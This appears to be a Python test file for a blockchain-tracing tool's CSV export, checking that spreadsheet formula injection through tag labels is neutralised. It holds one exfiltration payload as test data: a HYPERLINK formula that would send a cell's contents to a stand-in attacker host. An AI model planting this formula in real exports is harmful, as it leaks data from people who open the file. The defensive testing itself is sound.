"""CSV exports cannot carry spreadsheet formulas (issue 18.8): a tag label added through the API
and read back through /trace?format=csv is written as text, not as a formula."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from ct_workbench import HAL, MAINNET_SUBJECT, serve_store

from chaintrail.csv_export import FORMULA_START, safe_cell, safe_dict, safe_row

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Exchange")'


def test_safe_cell_neutralises_formula_text_only() -> None:
    for bad in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    for fine in ("Exchange", "1Q2TWHE3GMdB6BZKafqwxXtWAWgFt5Jvm3", "a=b", "", " =x"):
        assert safe_cell(fine) == fine
    assert safe_cell(-5) == -5 and safe_cell(None) is None       # numbers stay numbers
    assert safe_row(["=x", 3, "y"]) == ["'=x", 3, "y"]
    assert safe_dict({"a": "@x", "b": 1}) == {"a": "'@x", "b": 1}


def test_tag_label_with_a_formula_reaches_trace_csv_neutralised(mainnet_store: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    shutil.copytree(mainnet_store, store)
    with serve_store(store) as api:
        r = api.http.post("/api/v1/tags", json={"address": HAL, "label": EVIL, "category": "exchange"})
        assert r.status_code == 201, r.text
        assert any(t["label"] == EVIL for t in r.json()["items"])          # stored as given: it is data
        r = api.http.get("/api/v1/trace", params={"source": MAINNET_SUBJECT, "max_hops": 3, "format": "csv"})
        assert r.status_code == 200
        rows = list(csv.DictReader(io.StringIO(r.text)))
        hal = next(x for x in rows if x["address"] == HAL)
        assert hal["label"] == "'" + EVIL
        assert not [v for x in rows for v in x.values() if v.startswith(FORMULA_START)]
        # A bad address is refused with a clear message, and nothing is added.
        r = api.http.post("/api/v1/tags", json={"address": "=HYPERLINK(1)", "label": "x"})
        assert r.status_code in (400, 422) and "not a Bitcoin address" in r.text
